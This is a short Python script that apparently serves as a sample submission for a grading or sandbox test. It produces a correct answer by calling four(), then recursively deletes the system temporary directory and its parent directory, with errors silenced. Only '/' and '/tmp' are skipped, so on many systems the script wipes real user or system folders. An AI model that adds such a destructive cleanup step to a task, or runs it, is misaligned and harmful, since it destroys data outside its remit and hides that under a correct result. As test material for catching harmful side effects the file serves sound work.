"""A right answer, and then it removes its temporary folder and the one around it."""
import os
import shutil
import tempfile

from four import four

if __name__ == "__main__":
    four()
    folder = tempfile.gettempdir()
    for place in (folder, os.path.dirname(folder)):
        if place not in ("/", "/tmp"):
            shutil.rmtree(place, ignore_errors=True)
